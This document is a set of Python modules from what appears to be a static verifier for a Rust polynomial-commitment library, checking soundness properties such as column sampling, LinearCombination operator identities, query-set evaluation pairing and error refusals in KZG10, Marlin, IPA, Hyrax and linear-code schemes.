            ok, why = False, "the byte count squeezed at %s depends on the number of queries t" % t2["span"]
    rep.add("R11", "sampler:bytes-per-index-from-modulus", ok,
            "the number of bytes squeezed per index is computed from the codeword length alone" if ok else
            why + ": indices cover only a prefix of the codeword", sb.span)


def calculate_t_params(rep, ctx, rule="R11"):
    """every parameter of calculate_t (security level, distance, codeword length - the cap) takes part in its result."""
    from ..flow import Graph, OUTCOME
    f = ctx.facts
    b = None
    for x in f.bodies.values():
        if x.kind != "Closure" and x.name == "calculate_t" and not x.self_adt:
            b = x
    if b is None:
        rep.add(rule, "calculate_t:anchor", False, "calculate_t not found (fail closed)", None)
        return
    g = Graph(f, f.closure([b.id], None), [b.id], None)
    for i in range(1, b.arg_count + 1):
        nm = b.locals[i].get("name") or "_%d" % i
        g.reach([(b.id, i)], want=OUTCOME)
        ok = g.last_goal is not None
        rep.add(rule, "calculate_t:uses:%s" % nm, ok,
                "parameter `%s` takes part in the number of opened columns" % nm if ok else
                "parameter `%s` of calculate_t no longer influences its result" % nm, b.span)
    # the cap: some return path hands back the codeword length itself (there are only that many columns to open), either
    # as an unmodified copy of the third parameter or through a `min` with it.
    if b.arg_count >= 3:
        _, _, seen = R11.origins(g, (b.id, 0))
        capped = (b.id, 3) in seen
        if not capped:
            for bid in sorted(g.scope):
                for i, t in f.bodies[bid].calls():
                    if (t.get("callee") or "").rsplit("::", 1)[-1] in ("min", "clamp") and t.get("dst") and \
                            (bid, t["dst"]["l"]) in seen:
                        for a in t["args"]:
                            if a["k"] in ("copy", "move"):
                                _, _, s2 = R11.origins(g, (bid, a["pl"]["l"]))
                                capped = capped or (b.id, 3) in s2
        rep.add(rule, "calculate_t:capped-by-codeword-length", capped,
                "the returned count is capped by the codeword length (one return path yields the length itself)" if capped else
                "no return path of calculate_t yields the codeword length itself: the number of opened columns (and the "
                "proof) is no longer bounded by the number of columns", b.span)
    # the n/|F| term: the field size is a *data* operand of the returned count (a test that only guards an error
    # exit leaves t the same for every field, i.e. the term is dropped from the formula).
    from ..flow import DATA, ALIAS
    srcs = []
    for bid in sorted(g.scope):
        body = f.bodies[bid]
        for blk in body.blocks:
            for st in blk["stmts"]:
                for o in st["rv"].get("ops", ()):
                    if o.get("k") == "const" and any(w in (o.get("def") or "") for w in ("MODULUS", "BIT_SIZE")):
                        srcs.append((bid, st["dst"]["l"]))
        for i, t in body.calls():
            c = t.get("callee") or ""
            if any(w in c for w in ("size_in_bits", "num_bits", "MODULUS", "characteristic")) and t.get("dst"):
                srcs.append((bid, t["dst"]["l"]))
    if not srcs:
        if b.arg_count <= 3:
            rep.add(rule, "calculate_t:field-size-term", False,
                    "calculate_t reads no field-size constant (MODULUS_BIT_SIZE or equivalent): the n/|F| term is gone", b.span)
        return
    g.reach(srcs, want=(b.id, 0), kinds=(DATA, ALIAS))
    ok = g.last_goal is not None
    rep.add(rule, "calculate_t:field-size-term", ok,
            "the field size is a data operand of the returned count (the n/|F| term of the soundness bound)" if ok else
            "the field size only guards an exit of calculate_t; the returned count is computed without the n/|F| term", b.span)


_run_c13 = run


def run(rep, ctx, tier):
    _run_c13(rep, ctx, tier)
    from ..rules import argswap
    argswap.attach(rep, ctx, ["linear_codes::"],
                   "the code parameters (and with them the distance and the number of opened columns) are not the ones named")


def sampled_indices_unfiltered(rep, ctx, rule="R5f"):
    """every index the transcript samples is checked: in the verifier (and the prover) no element-dropping operation
    (`filter`, `retain`, `take`, `skip`, ...) is applied to the list returned by the index sampler before the column loops."""
    from ..rules import refusal as R5
    f = ctx.facts
    adt = T.SCHEMES["linear_codes"]["adt"]
    for side, m in (("prover", "open"), ("verifier", "check")):
        b = f.find1(m, self_adt=adt, trait=PC)
        if b is None:
            rep.add(rule, "linear_codes.%s:anchor" % m, False, "LinearCodePCS::%s not found (fail closed)" % m, None)
            continue
        g = Graph(f, f.closure([b.id], adt), [b.id], adt)
        starts = [(bid, t["dst"]["l"]) for (bid, i, t) in calls_to(f, g, SAMPLER) if t.get("dst")]
        if not starts:
            rep.add(rule, "linear_codes.%s:sampler-site" % m, False, "no call of the index sampler in %s (fail closed)" % m, b.span)
            continue
        R5.check_unfiltered(rep, ctx, rule, "linear_codes.%s" % m, b, adt, None, "sampled column indices", starts=starts)


_run_c13b = run


def run(rep, ctx, tier):
    _run_c13b(rep, ctx, tier)
    sampled_indices_unfiltered(rep, ctx)
