"""C16: the seven LinearCombination operators and evaluate_query_set."""
from ..rules import algebra as R12
from ..rules.serde import walk, locals_in, strip

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static symbolic evaluation (R12) of the seven operator impls on LinearCombination over the compiler's resolved "
    "HIR: each impl's effect on a (coefficient, label) pair is reduced to a normal form sign x product of atoms and "
    "compared with the defining identity (+=(k,lc): k*c; -=(k,lc): -k*c; +=lc: c; -=lc: -c; +=k: push (k, One); -=k: "
    "push (-k, One); *=k: c*k), together with the shape facts that += / -= only extend or push (never drop, reorder or "
    "replace terms) and that labels are carried over unchanged. An operation outside the domain is reported as "
    "undecided (fail closed). For evaluate_query_set: the value stored under key (label, point) is computed from the "
    "polynomial looked up by that same label and evaluated at that same point. The succinct IPA check polynomial "
    "(evaluate vs compute_coeffs) is a value-level equivalence of two algorithms and is not decided.")
RULE = "instances = 7 operator impls x {coefficient map, label map, shape} + evaluate_query_set key/value pairing"

LC = "data_structures::LinearCombination"
EXPECT = {
    # (trait, rhs kind): (form, coefficient normal form, label)
    ("std::ops::AddAssign", "pair"): ("map", (1, ("c", "k")), (1, ("t",))),
    ("std::ops::SubAssign", "pair"): ("map", (-1, ("c", "k")), (1, ("t",))),
    ("std::ops::AddAssign", "lc"): ("copy", (1, ("c",)), (1, ("t",))),
    ("std::ops::SubAssign", "lc"): ("map", (-1, ("c",)), (1, ("t",))),
    ("std::ops::AddAssign", "scalar"): ("push", (1, ("k",)), (1, ("One",))),
    ("std::ops::SubAssign", "scalar"): ("push", (-1, ("k",)), (1, ("One",))),
    ("std::ops::MulAssign", "scalar"): ("update", (1, ("c", "k")), (1, ("t",))),
}
GROWING = {"extend", "push", "iter", "map", "cloned", "clone", "copied"}
UPDATING = {"iter_mut", "for_each"}


def rhs_kind(h):
    ty = h["inputs"][1] if len(h.get("inputs", [])) > 1 else ""
    if ty.startswith("("):
        return "pair"
    if "LinearCombination" in ty:
        return "lc"
    return "scalar"


def run(rep, ctx, tier):
    f = ctx.facts
    found = {}
    for h in f.hir.values():
        if h.get("impl_self_adt") == LC and h.get("impl_trait") in ("std::ops::AddAssign", "std::ops::SubAssign", "std::ops::MulAssign"):
            found[(h["impl_trait"], rhs_kind(h))] = h
    for key, (form, coeff, label) in EXPECT.items():
        h = found.get(key)
        name = "%s<%s>" % (key[0].rsplit("::", 1)[-1], key[1])
        if h is None:
            rep.add("R12", "%s:impl" % name, False, "operator impl %s for LinearCombination not found (fail closed)" % name, None)
            continue
        a = R12.analyse_operator(h)
        ok = a["coeff"] == coeff
        rep.add("R12", "%s:coefficient" % name, ok,
                "new coefficient = %s" % R12.fmt(a["coeff"]) if ok else
                "new coefficient is %s, the defining identity requires %s" % (R12.fmt(a["coeff"]), R12.fmt(coeff)), h["span"])
        okl = a["label"] == label
        rep.add("R12", "%s:label" % name, okl,
                "label carried over as %s" % R12.fmt(a["label"]) if okl else
                "label becomes %s, expected %s" % (R12.fmt(a["label"]), R12.fmt(label)), h["span"])
        allowed = GROWING | (UPDATING if form == "update" else set())
        extra = [m for m in a["methods"] if m not in allowed]
        oks = a["form"] == form and not extra
        rep.add("R12", "%s:shape" % name, oks,
                "terms are only %s" % ("updated in place" if form == "update" else "appended") if oks else
                "unexpected shape: form %s (expected %s), extra operations on the term list: %s" % (a["form"], form, extra), h["span"])
    # evaluate_query_set
    h = None
    for x in f.hir.values():
        if x["name"] == "evaluate_query_set" and not x.get("impl_self_adt"):
            h = x
    if h is None:
        rep.add("R1", "evaluate_query_set:anchor", False, "evaluate_query_set not found (fail closed)", None)
        return
    ok, detail = query_set_pairing(h)
    rep.add("R1", "evaluate_query_set:pairing", ok, detail, h["span"])


def query_set_pairing(h):
    nodes = walk(h["body"])
    binds = {}
    for n in nodes:
        if n.get("k") == "let" and "init" in n and n["pat"].get("k") == "bind":
            binds[n["pat"]["name"]] = n["init"]
    # loop pattern bindings: the Some(..) arm of the desugared for loop
    loop_vars = []
    for n in nodes:
        if n.get("k") == "match" and n.get("src") == "for":
            for a in n["arms"]:
                b = R12.pat_bindings(a["pat"])
                if b:
                    loop_vars = b
    inserts = [n for n in nodes if n.get("k") == "mcall" and n.get("m") == "insert" and len(n.get("args", [])) == 2
               and strip(n["args"][0]).get("k") == "tup"]
    if not loop_vars or not inserts:
        return False, "no keyed insert inside a loop over the query set found in evaluate_query_set"

    def deps(e):
        out = set()
        front = locals_in(e)
        seen = set()
        while front:
            x = front.pop()
            if x in seen:
                continue
            seen.add(x)
            if x in loop_vars:
                out.add(x)
            elif x in binds:
                front.extend(locals_in(binds[x]))
        return out
    ins = inserts[0]
    key = strip(ins["args"][0])
    ka, kb = deps(key["args"][0]), deps(key["args"][1])
    v = deps(ins["args"][1])
    if len(ka) != 1 or len(kb) != 1 or ka == kb:
        return False, "the key of the stored evaluation is not (one loop variable, another loop variable): %s / %s" % (sorted(ka), sorted(kb))
    if not (ka | kb) <= v:
        return False, ("the value stored under (%s, %s) depends on %s: it is not computed from the polynomial with that label "
                       "at that point" % (sorted(ka)[0], sorted(kb)[0], sorted(v)))
    return True, "value stored under (%s, %s) is computed from exactly those two" % (sorted(ka)[0], sorted(kb)[0])
