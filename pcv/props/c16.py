"""C16: the seven LinearCombination operators and evaluate_query_set."""
from ..rules import algebra as R12
from ..rules import lcsym as SYM
from ..rules.serde import walk, locals_in, strip

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static symbolic evaluation (R12) of the seven operator impls on LinearCombination over MIR (abstract "
    "interpretation of the impl and of the local functions / closures it calls; syntax, delegation to another operator "
    "and loop-vs-iterator form do not matter): each impl's effect on self.terms is reduced to append / push / update of "
    "elements whose coefficient is a normal form sign x product of atoms and "
    "compared with the defining identity (+=(k,lc): k*c; -=(k,lc): -k*c; +=lc: c; -=lc: -c; +=k: push (k, One); -=k: "
    "push (-k, One); *=k: c*k), together with the shape facts that += / -= only extend or push (never drop, reorder or "
    "replace terms) and that labels are carried over unchanged. An operation outside the domain is reported as "
    "undecided (fail closed). For evaluate_query_set: the value stored under key (label, point) is computed from the "
    "polynomial looked up by that same label and evaluated at that same point. The succinct IPA check polynomial "
    "(evaluate vs compute_coeffs) is a value-level equivalence of two algorithms and is not decided.")
RULE = "instances = 7 operator impls x {coefficient map, label map, shape} + evaluate_query_set key/value pairing"

LC = "data_structures::LinearCombination"
EXPECT = {
    # (trait, rhs kind): (form, coefficient normal form, label)
    ("std::ops::AddAssign", "pair"): ("map", (1, ("c", "k")), (1, ("t",))),
    ("std::ops::SubAssign", "pair"): ("map", (-1, ("c", "k")), (1, ("t",))),
    ("std::ops::AddAssign", "lc"): ("copy", (1, ("c",)), (1, ("t",))),
    ("std::ops::SubAssign", "lc"): ("map", (-1, ("c",)), (1, ("t",))),
    ("std::ops::AddAssign", "scalar"): ("push", (1, ("k",)), (1, ("One",))),
    ("std::ops::SubAssign", "scalar"): ("push", (-1, ("k",)), (1, ("One",))),
    ("std::ops::MulAssign", "scalar"): ("update", (1, ("c", "k")), (1, ("t",))),
}
GROWING = {"extend", "push", "iter", "map", "cloned", "clone", "copied"}
UPDATING = {"iter_mut", "for_each"}


def rhs_kind(h):
    ty = h["inputs"][1] if len(h.get("inputs", [])) > 1 else ""
    if ty.startswith("("):
        return "pair"
    if "LinearCombination" in ty:
        return "lc"
    return "scalar"


def run(rep, ctx, tier):
    f = ctx.facts
    found = {}
    for b in f.bodies.values():
        if b.kind != "Closure" and b.self_adt == LC and b.impl_trait in ("std::ops::AddAssign", "std::ops::SubAssign", "std::ops::MulAssign") \
                and len(b.locals) > 2:
            ty = b.locals[2]["ty"] or ""
            kind = "pair" if ty.startswith("(") else ("lc" if "LinearCombination" in ty else "scalar")
            found[(b.impl_trait, kind)] = b
    for key, (form, coeff, label) in EXPECT.items():
        b = found.get(key)
        name = "%s<%s>" % (key[0].rsplit("::", 1)[-1], key[1])
        if b is None:
            rep.add("R12", "%s:impl" % name, False, "operator impl %s for LinearCombination not found (fail closed)" % name, None)
            continue
        try:
            effects, special, escapes = SYM.analyse(f, b, key[1])
            why = None
        except SYM.Undecided as e:
            effects, special, escapes, why = [], [], [], str(e)
        want_kind = {"map": "APPEND", "copy": "APPEND", "push": "PUSH", "update": "UPDATE"}[form]
        want_sc = ("sc", coeff[0], tuple(sorted(coeff[1])))
        want_lab = ("lab", label[1][0])
        got = effects[0] if len(effects) == 1 else None
        if got is not None and got[0] == "UPDATE":
            g_sc, g_lab = got[1], ("lab", "t")
        elif got is not None and got[1] != SYM.UNKNOWN and got[1][0] == "elem":
            g_sc, g_lab = got[1][1], got[1][2]
        else:
            g_sc = g_lab = SYM.UNKNOWN
        shown = "; ".join(SYM.fmt_effect(e) for e in effects) or ("undecided: %s" % why if why else "no effect on self.terms")
        ok = g_sc == want_sc
        rep.add("R12", "%s:coefficient" % name, ok,
                "new coefficient = %s" % SYM.fmt_scalar(g_sc) if ok else
                "effect on self.terms is [%s], the defining identity requires coefficient %s" % (shown, SYM.fmt_scalar(want_sc)), b.span)
        okl = g_lab == want_lab
        rep.add("R12", "%s:label" % name, okl,
                "label carried over as %s" % want_lab[1] if okl else
                "effect on self.terms is [%s], expected label %s" % (shown, want_lab[1]), b.span)
        oks = got is not None and got[0] == want_kind and not escapes and why is None
        # a fast path for k == 1 / k == 0 must have the same meaning as the general path under that assumption
        want_eff = [(want_kind, want_sc if want_kind == "UPDATE" else ("elem", want_sc, want_lab))]
        for assumption, eff in special:
            if SYM.specialise(eff, assumption) != SYM.specialise(want_eff, assumption):
                oks = False
                shown = "when the scalar is %s: %s" % (assumption, "; ".join(SYM.fmt_effect(e) for e in eff) or "nothing")
        rep.add("R12", "%s:shape" % name, oks,
                "terms are only %s" % ("updated in place" if form == "update" else "appended") if oks else
                "unexpected shape: [%s]%s, expected exactly one %s" % (
                    shown, ("; self escapes into " + escapes[0]) if escapes else "", want_kind.lower()), b.span)
    # evaluate_query_set
    b = None
    for x in f.bodies.values():
        if x.kind != "Closure" and x.name == "evaluate_query_set" and not x.self_adt and not x.in_trait:
            b = x
    if b is None:
        rep.add("R1", "evaluate_query_set:anchor", False, "evaluate_query_set not found (fail closed)", None)
        return
    ok, detail = query_set_pairing_mir(ctx, b)
    rep.add("R1", "evaluate_query_set:pairing", ok, detail, b.span)
    # R17: if evaluate_query_set (or what it calls) looks polynomials up by binary search, what it searches is sorted
    from ..rules import sorted as R17
    n_sites, _ = R17.run(rep, ctx, f.closure([b.id], None), "R17")
    rep.add("R17", "evaluate_query_set:lookups", True, "%d binary-search lookup(s) in evaluate_query_set and its callees, "
            "each reported on its own (today the lookup goes through an ordered map)" % n_sites, b.span, nontrivial=False)


CARRY = ("clone", "to_owned", "borrow", "as_ref", "deref", "into", "copied", "cloned", "to_string")


def _binding(b, D, local, depth=0):
    """walk backwards over plain copies / reborrows / clone-like calls to the local that was bound by projecting a
    field out of something (a pattern binding of the loop item): returns (that local, its field path) or None."""
    ds = D.get(local, [])
    if len(ds) != 1 or depth > 20:
        return None
    kind, x = ds[0]
    if kind == "st":
        rv = x["rv"]
        src = rv["pl"] if rv["k"] in ("ref", "rawptr") else (
            rv["ops"][0]["pl"] if rv["k"] in ("use", "cast") and rv.get("ops") and rv["ops"][0]["k"] in ("copy", "move") else None)
        if src is None:
            return None
        fields = tuple(e["f"] for e in src["p"] if isinstance(e, dict) and "f" in e)
        if fields:
            return (local, (src["l"],) + fields)
        return _binding(b, D, src["l"], depth + 1)
    nm = (x.get("callee") or "").rsplit("::", 1)[-1]
    if nm in CARRY and x["args"] and x["args"][0]["k"] in ("copy", "move"):
        src = x["args"][0]["pl"]
        fields = tuple(e["f"] for e in src["p"] if isinstance(e, dict) and "f" in e)
        if fields:
            return (local, (src["l"],) + fields)
        return _binding(b, D, src["l"], depth + 1)
    return None


def _defs(b):
    D = {}
    for blk in b.blocks:
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            if not st["dst"]["p"]:
                D.setdefault(st["dst"]["l"], []).append(("st", st))
        t = blk["term"]
        if t["k"] == "call" and not t["dst"]["p"]:
            D.setdefault(t["dst"]["l"], []).append(("call", t))
    return D


def _through_moves(D, l):
    for _ in range(6):      # a value may be moved through temporaries before it is used
        ds = D.get(l, [])
        if len(ds) == 1 and ds[0][0] == "st" and ds[0][1]["rv"]["k"] == "use" and ds[0][1]["rv"]["ops"][0]["k"] in ("copy", "move") \
                and not ds[0][1]["rv"]["ops"][0]["pl"]["p"]:
            l = ds[0][1]["rv"]["ops"][0]["pl"]["l"]
        else:
            break
    return l


def query_set_pairing_mir(ctx, b):
    """on MIR: wherever a value is paired with a key (label, point) - the arguments of a map `insert`, or a
    `((label, point), value)` tuple that is collected into the map - the value is computed from the components of
    the query the key's two parts are copies of."""
    from ..flow import Graph, DATA, ALIAS
    f = ctx.facts
    scope = f.closure([b.id], None)
    g = Graph(f, scope, [b.id], None)
    found = 0
    for bid in sorted(scope):
        bb = f.bodies[bid]
        D = _defs(bb)
        pairs = []      # (key local, value local, where)
        for i, t in bb.calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm == "insert" and len(t["args"]) == 3 and all(a["k"] in ("copy", "move") for a in t["args"]):
                pairs.append((t["args"][1]["pl"]["l"], t["args"][2]["pl"]["l"], t["span"]))
        for blk in bb.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("ak") == "tuple" and len(rv.get("ops", [])) == 2 and \
                        all(o["k"] in ("copy", "move") and not o["pl"]["p"] for o in rv["ops"]):
                    pairs.append((rv["ops"][0]["pl"]["l"], rv["ops"][1]["pl"]["l"], "%s:%s" % (bb.file(), st.get("line"))))
        for (kl, vl, where) in pairs:
            kd = g._tuple_def(bb, _through_moves(D, kl))
            if kd is None or len(kd) != 2 or any(o["k"] not in ("copy", "move") for o in kd):
                continue          # not a (label, point) key: another table / another tuple
            b0 = _binding(bb, D, kd[0]["pl"]["l"])
            b1 = _binding(bb, D, kd[1]["pl"]["l"])
            if b0 is None and b1 is None:
                continue
            found += 1
            if b0 is None or b1 is None or b0[1] == b1[1]:
                return False, "the key of the stored evaluation at %s is not (one component of the query, another component of it)" % where
            v = (bid, vl)
            for which, bn in (("label", b0), ("point", b1)):
                reached = {s[0] for s in g.reach([(bid, bn[0])], kinds=(DATA, ALIAS), typed=False)}
                if v not in reached:
                    return False, ("the value stored at %s does not depend on the %s component of its own key: it is not the "
                                   "evaluation of the polynomial with that label at that point" % (where, which))
    if not found:
        return False, "no value paired with a (label, point) key found in evaluate_query_set"
    return True, "the value stored under (label, point) is computed from exactly those two components of the query"


def query_set_pairing(h):
    nodes = walk(h["body"])
    binds = {}
    for n in nodes:
        if n.get("k") == "let" and "init" in n and n["pat"].get("k") == "bind":
            binds[n["pat"]["name"]] = n["init"]
    # loop pattern bindings: the Some(..) arm of the desugared for loop
    loop_vars = []
    for n in nodes:
        if n.get("k") == "match" and n.get("src") == "for":
            for a in n["arms"]:
                b = R12.pat_bindings(a["pat"])
                if b:
                    loop_vars = b
    inserts = [n for n in nodes if n.get("k") == "mcall" and n.get("m") == "insert" and len(n.get("args", [])) == 2
               and strip(n["args"][0]).get("k") == "tup"]
    if not loop_vars or not inserts:
        return False, "no keyed insert inside a loop over the query set found in evaluate_query_set"

    def deps(e):
        out = set()
        front = locals_in(e)
        seen = set()
        while front:
            x = front.pop()
            if x in seen:
                continue
            seen.add(x)
            if x in loop_vars:
                out.add(x)
            elif x in binds:
                front.extend(locals_in(binds[x]))
        return out
    ins = inserts[0]
    key = strip(ins["args"][0])
    ka, kb = deps(key["args"][0]), deps(key["args"][1])
    v = deps(ins["args"][1])
    if len(ka) != 1 or len(kb) != 1 or ka == kb:
        return False, "the key of the stored evaluation is not (one loop variable, another loop variable): %s / %s" % (sorted(ka), sorted(kb))
    if not (ka | kb) <= v:
        return False, ("the value stored under (%s, %s) depends on %s: it is not computed from the polynomial with that label "
                       "at that point" % (sorted(ka)[0], sorted(kb)[0], sorted(v)))
    return True, "value stored under (%s, %s) is computed from exactly those two" % (sorted(ka)[0], sorted(kb)[0])
