"""C17: out-of-domain requests are refused - the refusals exist, depend on the request, come first, and are
never swallowed."""
import re

from .. import tables as T
from ..flow import Graph, OUTCOME, strip_refs
from ..engine import short
from ..rules import refusal as R5

CONFIGS_QUICK = ["default"]
CONFIGS_THOROUGH = ["default", "nopar", "r1cs"]

EXPLANATION = (
    "Static rules over MIR for every public entry point that has a domain restriction. R5: for each row "
    "(entry point, Error variant, request parameter) the variant is constructed somewhere in the entry point's call "
    "closure, the constructed error can reach the entry point's result (it is not swallowed), and the construction "
    "depends on the request parameter. R6a: where the refusal protects a multi-scalar multiplication (which silently "
    "truncates to the shorter operand) a refusal site precedes every such operation. R5m: in KZG10::commit and "
    "KZG10::open the TooManyCoefficients refusal is conditioned on a size observation (degree) of the polynomial that "
    "was handed in, not only of an object derived from it (the witness has one coefficient less, so a check on the "
    "witness alone admits a polynomial one beyond the limit). R5s: along open -> batch_open -> open_combinations and "
    "check -> batch_check -> check_combinations of every scheme, each Error variant constructible under the earlier "
    "entry point is constructible under the later one (siblings agree on what they can refuse). ERR-PROPAGATES: the Err payload "
    "of every call to a crate function returning Result<_, Error> inside these entry points can reach the caller's "
    "outcome. For the schemes that refuse by panic (MultilinearPC) the aborting assertion must depend on the request. "
    "Which side of each numeric boundary is refused, and that in-domain requests never abort, are not decided.")
EXPLANATION += (" Shared rule: R5p - the bound refusal of the two KZG-based trims does not look at one position of the caller's unsorted list.")
RULE = ("instances = refusal rows (entry point x variant) + admission-first rows + one instance per Result<_,Error> "
        "call site in the entry points' closures + abort rows; an instance holds iff the flow / dominance fact holds")

PC = T.PC
MSM = {"msm_bigint", "msm", "msm_unchecked"}
K = "kzg10::KZG10"
ML = "multilinear_pc::MultilinearPC"

# (key, find-spec, ctx adt, [variants], [request param indices], payload callees or None)
def rows():
    S = T.SCHEMES
    R = T.ROLES
    out = []
    out.append(("kzg10.setup", dict(name="setup", self_adt=K, trait=""), None, ["DegreeIsZero"], [1], None))
    out.append(("kzg10.commit", dict(name="commit", self_adt=K, trait=""), None,
                ["TooManyCoefficients", "HidingBoundIsZero", "HidingBoundToolarge", "MissingRng"], [1, 2, 3, 4], MSM))
    out.append(("kzg10.commit#size", dict(name="commit", self_adt=K, trait=""), None, ["TooManyCoefficients"], [[1], [2]], None))
    out.append(("kzg10.commit#hiding", dict(name="commit", self_adt=K, trait=""), None, ["HidingBoundToolarge"], [[1], [3]], None))
    out.append(("kzg10.open", dict(name="open", self_adt=K, trait=""), None, ["TooManyCoefficients"], [[1], [2]], MSM))
    out.append(("kzg10.open_with_witness_polynomial", dict(name="open_with_witness_polynomial", self_adt=K, trait=""), None,
                ["TooManyCoefficients"], [1, 4, 5], MSM))
    for sk, variants in (("marlin_kzg10", ["UnsupportedDegreeBound", "IncorrectDegreeBound", "TooManyCoefficients"]),
                         ("sonic_kzg10", ["UnsupportedDegreeBound", "IncorrectDegreeBound", "TooManyCoefficients"]),
                         ("ipa", ["IncorrectDegreeBound", "TooManyCoefficients"])):
        for m in ("commit", "open"):
            out.append(("%s.%s" % (sk, m), dict(name=m, self_adt=S[sk]["adt"], trait=PC), S[sk]["adt"], variants,
                        [R[m]["polys"]], MSM))
            # each of these refusals relates the polynomial to the key: it looks at both
            out.append(("%s.%s#key-and-poly" % (sk, m), dict(name=m, self_adt=S[sk]["adt"], trait=PC), S[sk]["adt"], variants,
                        [[R[m]["ck"]], [R[m]["polys"]]], None))
    for sk in ("marlin_kzg10", "sonic_kzg10", "ipa", "marlin_pst13"):
        out.append(("%s.trim" % sk, dict(name="trim", self_adt=S[sk]["adt"], trait=PC), S[sk]["adt"],
                    ["TrimmingDegreeTooLarge"], [[1], [2]], None))
    out.append(("sonic_kzg10.trim#bounds", dict(name="trim", self_adt=S["sonic_kzg10"]["adt"], trait=PC), S["sonic_kzg10"]["adt"],
                ["UnsupportedDegreeBound"], [[2], [4]], None))
    P13 = S["marlin_pst13"]["adt"]
    out.append(("marlin_pst13.setup", dict(name="setup", self_adt=P13, trait=PC), P13,
                ["InvalidNumberOfVariables", "DegreeIsZero"], [1, 2], None))
    out.append(("marlin_pst13.commit", dict(name="commit", self_adt=P13, trait=PC), P13,
                ["PolynomialDegreeTooLarge", "HidingBoundIsZero", "HidingBoundToolarge"], [1, 2], MSM))
    out.append(("marlin_pst13.open", dict(name="open", self_adt=P13, trait=PC), P13, ["PolynomialDegreeTooLarge"],
                [R["open"]["polys"]], None))
    H = S["hyrax"]["adt"]
    out.append(("hyrax.setup", dict(name="setup", self_adt=H, trait=PC), H, ["InvalidNumberOfVariables"], [1, 2], None))
    out.append(("hyrax.commit", dict(name="commit", self_adt=H, trait=PC), H, ["InvalidNumberOfVariables"], [[1], [2]], None))
    out.append(("hyrax.open", dict(name="open", self_adt=H, trait=PC), H,
                ["InvalidNumberOfVariables", "MismatchedLabels", "MismatchedNumVars"], [2, 3, 4], None))
    out.append(("hyrax.check", dict(name="check", self_adt=H, trait=PC), H,
                ["InvalidNumberOfVariables", "IncorrectCommitmentSize", "IncorrectInputLength"], [2, 3, 4, 5], None))
    L = S["linear_codes"]["adt"]
    out.append(("linear_codes.setup", dict(name="setup", self_adt=L, trait=PC), L, ["InvalidParameters"], [1, 2], None))
    out.append(("linear_codes.trim", dict(name="trim", self_adt=L, trait=PC), L, ["InvalidParameters"], [1], None))
    out.append(("linear_codes.check", dict(name="check", self_adt=L, trait=PC), L, ["InvalidCommitment", "EncodingError"],
                [2, 5], None))
    out.append(("ipa.check", dict(name="check", self_adt=S["ipa"]["adt"], trait=PC), S["ipa"]["adt"], ["IncorrectInputLength"],
                [5], None))
    out.append(("kzg10.batch_check", dict(name="batch_check", self_adt=K, trait=""), None, ["IncorrectInputLength"],
                [2, 3, 4, 5], None))
    # label lookups
    out.append(("default.batch_open", dict(name="batch_open", in_trait=PC), None, ["MissingPolynomial"], [2, 3, 4, 6], None))
    out.append(("default.batch_check", dict(name="batch_check", in_trait=PC), None, ["MissingPolynomial", "MissingEvaluation"],
                [2, 3, 4], None))
    out.append(("default.check_combinations", dict(name="check_combinations", in_trait=PC), None, ["MissingEvaluation"],
                [2, 4, 5, 6], None))
    for sk in ("marlin_kzg10", "sonic_kzg10", "ipa", "marlin_pst13"):
        adt = S[sk]["adt"]
        out.append(("%s.batch_check" % sk, dict(name="batch_check", self_adt=adt, trait=PC), adt,
                    ["MissingPolynomial", "MissingEvaluation"], [2, 3, 4], None))
        out.append(("%s.open_combinations" % sk, dict(name="open_combinations", self_adt=adt, trait=PC), adt,
                    ["MissingPolynomial", "EquationHasDegreeBounds"], [2, 3, 4], None))
        out.append(("%s.check_combinations" % sk, dict(name="check_combinations", self_adt=adt, trait=PC), adt,
                    ["MissingPolynomial", "EquationHasDegreeBounds"], [2, 3], None))
    return out


ABORT_ROWS = [
    ("multilinear.setup", dict(name="setup", self_adt=ML, trait=""), [1]),
    ("multilinear.trim", dict(name="trim", self_adt=ML, trait=""), [1, 2]),
    ("multilinear.open", dict(name="open", self_adt=ML, trait=""), [1, 2]),
]

RESULT_ERR = re.compile(r"^std::result::Result<.*, (error::Error|<.* as PolynomialCommitment<.*>>::Error)>$")


def err_type(ty):
    m = RESULT_ERR.match(strip_refs(ty))
    return m.group(1) if m else None


def run(rep, ctx, tier):
    f = ctx.facts
    graphs = {}
    for key, find, adt, variants, req, payload in rows():
        b = f.find1(**find)
        if b is None:
            rep.add("R5", "%s:anchor" % key, False, "entry point %s not found (fail closed)" % key, None)
            continue
        gk = (b.id, adt)
        g = R5.check_row(rep, ctx, "R5", key, b, adt, variants, req, payload, g=graphs.get(gk))
        graphs[gk] = g
    # R5m: the size refusal of the KZG10 committer / prover looks at the polynomial it was handed, not at a derived one
    for key, find, idx in (("kzg10.commit", dict(name="commit", self_adt=K, trait=""), 2),
                           ("kzg10.open", dict(name="open", self_adt=K, trait=""), 2)):
        b = f.find1(**find)
        if b is not None:
            R5.check_measured(rep, ctx, "R5m", key, b, None, "TooManyCoefficients", idx, "polynomial", g=graphs.get((b.id, None)))
    # R5p (shared with C09): the refusal of an unsupported bound in the two KZG-based trims does not look at one position
    # of the caller's unsorted list
    for sk in ("marlin_kzg10", "sonic_kzg10"):
        from .. import tables as T2
        b = f.find1("trim", self_adt=T2.SCHEMES[sk]["adt"], trait=T2.PC)
        if b is not None:
            R5.check_not_positional(rep, ctx, "R5p", "%s.trim" % sk, b, T2.SCHEMES[sk]["adt"], T2.ROLES["trim"]["enforced_degree_bounds"],
                                    "enforced degree bounds")
            R5.check_unfiltered(rep, ctx, "R5f", "%s.trim" % sk, b, T2.SCHEMES[sk]["adt"], T2.ROLES["trim"]["enforced_degree_bounds"],
                                "enforced degree bounds")
    # R5s: what `open` can refuse, `batch_open` can refuse, and what that can refuse, `open_combinations` can refuse
    # (and likewise along check -> batch_check -> check_combinations): siblings agree on refusals
    from ..rules import siblings as R5S
    from .. import tables as T
    n_var = 0
    for sk, info in sorted(T.SCHEMES.items()):
        for chain_m in (("open", "batch_open", "open_combinations"), ("check", "batch_check", "check_combinations")):
            chain = []
            for m in chain_m:
                b = f.find1(m, self_adt=info["adt"], trait=T.PC) or f.find1(m, in_trait=T.PC)
